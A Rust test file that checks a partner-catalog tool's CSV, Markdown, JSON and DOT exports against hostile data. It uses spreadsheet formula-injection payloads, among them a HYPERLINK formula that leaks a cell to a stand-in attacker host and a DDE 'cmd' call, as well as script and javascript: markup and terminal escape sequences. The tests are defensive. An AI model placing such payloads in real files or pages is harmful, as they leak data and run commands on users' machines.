//! Hostile data in exports: CSV cells never start a formula, Markdown never turns data into
//! markup, JSON keeps every character as escapes, DOT carries line breaks and replaces controls.

use std::path::Path;

use partners::catalog::{Catalog, Source};
use partners::export::{ExportFormat, Separator};
use partners::store::{Change, Store};
use serde_json::Value;
use tempfile::TempDir;

use super::{
    bundled, check_graph, csv_records, everyone, has_edge, parse_dot, read_csv_with, run, run_with,
};

/// A store whose notes are the `notes`, on the first partners of the catalog, in order.
fn store_with_notes(home: &TempDir, catalog: &Catalog, notes: &[&str]) -> (Store, Vec<usize>) {
    let mut store = Store::open(home.path()).expect("open the store");
    for (n, note) in notes.iter().enumerate() {
        let id = catalog.partners()[n].id.clone();
        store.apply(Change::Note { id, text: Some((*note).into()) }).expect("note");
    }
    (store, (0..notes.len()).collect())
}

/// A catalog of `source` as written: no validation, as a hand-made or future file could be.
fn unchecked_catalog(source: &str) -> Catalog {
    let dataset = partners::dataset::parse_syntax(source, Path::new("hostile.ron"))
        .unwrap_or_else(|e| panic!("{e}"));
    Catalog::from_partners(dataset.partners, vec![Source::File("hostile.ron".into())], vec![])
}

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
];

#[test]
fn csv_cells_never_start_a_formula() {
    let home = TempDir::new().expect("temp dir");
    let catalog = bundled();
    let (store, chosen) = store_with_notes(&home, &catalog, FORMULAS);
    let rows = csv_records(&run(&catalog, Some(&store), &chosen, ExportFormat::Csv));
    for (row, formula) in rows.iter().zip(FORMULAS) {
        // After a tab or a line break too, where a spreadsheet may start a cell.
        let kept = formula.replace("\t=", "\t'=").replace("\n=", "\n'=");
        assert_eq!(row["note"], format!("'{kept}"), "the note is kept behind a quote");
    }
    // Dataset fields too: a partner whose every field starts like a formula.
    let hostile = r#"(partners: [(id: "-x", name: "=1+1", acronym: "@A", kind: Media, scope: Local,
        description: "d", location: "+33", website: "=HYPERLINK(\"x\")", email: "-e",
        phone: "+33 5 56 00 00 00", booth: "\t1")])"#;
    let catalog = unchecked_catalog(hostile);
    let rows = csv_records(&run(&catalog, None, &everyone(&catalog), ExportFormat::Csv));
    for (column, cell) in &rows[0] {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{column}: {cell:?}");
    }
    assert_eq!(rows[0]["phone"], "'+33 5 56 00 00 00");
}

/// Opened with another separator than the one written (French Excel splits a comma-separated
/// file on semicolons, where quotes no longer hold), or with quotes ignored, or its cells
/// trimmed (a "Trim spaces" option on import), no cell starts a formula: every place a reader may
/// start a cell is checked, a quote and spaces opening it skipped.
#[test]
fn csv_cells_never_start_a_formula_split_on_another_separator() {
    let home = TempDir::new().expect("temp dir");
    let catalog = bundled();
    let notes = [
        "x;=1+1",
        "x,=1+1",
        "x\t=1+1",
        "a;b,c\t@SUM(A1)",
        "q,\"-2",
        "l\n+1",
        " =1+1",
        "y; =1+1",
        "z,  \"@SUM(A1)",
        "l\n  -2",
    ];
    let (store, chosen) = store_with_notes(&home, &catalog, &notes);
    for written in [Separator::Comma, Separator::Semicolon, Separator::Tab] {
        let text = run_with(&catalog, Some(&store), &chosen, ExportFormat::Csv, written);
        // Read as written, each note whole.
        let split = match written {
            Separator::Comma => ',',
            Separator::Semicolon => ';',
            Separator::Tab => '\t',
        };
        let rows = read_csv_with(text.trim_start_matches('\u{feff}'), split).expect("CSV");
        assert!(rows.iter().any(|row| row.iter().any(|c| c == "x;'=1+1")), "{rows:?}");
        for cell in text.split([',', ';', '\t', '\n', '\r']) {
            let cell = cell.trim_start_matches(['"', ' ']);
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{written:?}: {cell:?} in {text}");
        }
    }
}

#[test]
fn markdown_shows_markup_in_data_as_text() {
    let home = TempDir::new().expect("temp dir");
    let catalog = bundled();
    let note = "<script>alert(1)</script> [click](javascript:alert(1)) <javascript:alert(2)>\n# not a heading\n> not a quote end | cell | *bold* _it_ `code` &amp;";
    let (store, chosen) = store_with_notes(&home, &catalog, &[note]);
    let md = run(&catalog, Some(&store), &chosen, ExportFormat::Md);
    let mine = md.split("## Mine").nth(1).expect("the marks section");
    // Every significant character comes with a backslash, so none is markup.
    for c in ['<', '>', '[', ']', '&', '*', '_', '`', '|', '#'] {
        for (at, _) in mine.match_indices(c) {
            let quote_marker = c == '>' && (at == 0 || mine[..at].ends_with('\n'));
            assert!(quote_marker || mine[..at].ends_with('\\'), "raw {c:?} in {mine:?}");
        }
    }
    // Each line of the note is its own quoted line.
    let quoted: Vec<&str> = mine.lines().filter(|l| l.starts_with("> ")).collect();
    assert_eq!(quoted.len(), 3, "{mine}");
    assert!(quoted[1].starts_with("> \\# not a heading"), "{mine}");
}

/// A note's lines stay lines (a hard break: a bare backslash at the end), but for a blank
/// line, which is a paragraph break already; a backslash of the note ending a line stays
/// escaped, so it is text followed by the break.
#[test]
fn markdown_keeps_a_notes_line_breaks() {
    let home = TempDir::new().expect("temp dir");
    let catalog = bundled();
    let note = "first\nends in \\\nnext\n\nafter a blank\nlast";
    let (store, chosen) = store_with_notes(&home, &catalog, &[note]);
    let md = run(&catalog, Some(&store), &chosen, ExportFormat::Md);
    let quoted: Vec<&str> = md.lines().filter(|l| l.starts_with('>')).collect();
    assert_eq!(
        quoted,
        ["> first\\", "> ends in \\\\\\", "> next", "> ", "> after a blank\\", "> last"],
        "{md}"
    );
}

#[test]
fn json_keeps_every_character_of_a_note_as_escapes() {
    let home = TempDir::new().expect("temp dir");
    let catalog = bundled();
    let note: String = (1u32..0x2070).filter_map(char::from_u32).collect::<String>() + "end";
    let (store, chosen) = store_with_notes(&home, &catalog, &[&note]);
    let text = run(&catalog, Some(&store), &chosen, ExportFormat::Json);
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control() || partners::text::is_bidi_control(c)),
            "raw {c:?} in the JSON"
        );
    }
    for escape in ["\\u001b", "\\u007f", "\\u0085", "\\u009b", "\\u202e", "\\u2066", "\\u200e"] {
        assert!(text.contains(escape), "{escape} missing");
    }
    let array: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(array[0]["note"], note.as_str(), "decodes to the exact note");
}

#[test]
fn dot_carries_line_breaks_and_replaces_controls() {
    let hostile =
        "(partners: [(id: \"a\", name: \"A\", kind: Media, scope: Local, description: \"d\",
        relations: [(kind: MemberOf, name: \"Two\\nlines \\u{1b}[2J\\u{202E}\")])])";
    let catalog = unchecked_catalog(hostile);
    let dot = run(&catalog, None, &everyone(&catalog), ExportFormat::Dot);
    assert!(dot.contains("\"Two\\nlines \u{FFFD}[2J\u{FFFD}\""), "{dot}");
    let graph = parse_dot(&dot);
    check_graph(&graph);
    assert!(has_edge(&graph, "a", "Two\nlines \u{FFFD}[2J\u{FFFD}", "Member of"));
}

#[test]
fn dot_keeps_an_outside_organisation_apart_from_a_partner_of_its_name() {
    let named_like = "(partners: [
        (id: \"a\", name: \"A\", kind: Media, scope: Local, description: \"d\",
            relations: [(kind: SupportedBy, name: \"b-two\"), (kind: MemberOf, target: \"b-two\")]),
        (id: \"b-two\", name: \"B\", kind: Media, scope: Local, description: \"d\")])";
    let catalog = unchecked_catalog(named_like);
    let graph = parse_dot(&run(&catalog, None, &everyone(&catalog), ExportFormat::Dot));
    check_graph(&graph);
    // The partner stays a box; the outside organisation is an ellipse of its own.
    assert_eq!(graph.nodes["b-two"].get("shape"), None);
    assert!(has_edge(&graph, "a", "b-two", "Member of"));
    let supported: Vec<&str> = graph
        .edges
        .iter()
        .filter(|(from, _, a)| from == "a" && a["label"] == "Supported by")
        .map(|(_, to, _)| to.as_str())
        .collect();
    assert_eq!(supported.len(), 1);
    assert_ne!(supported[0], "b-two");
    assert_eq!(graph.nodes[supported[0]]["label"], "b-two");
}
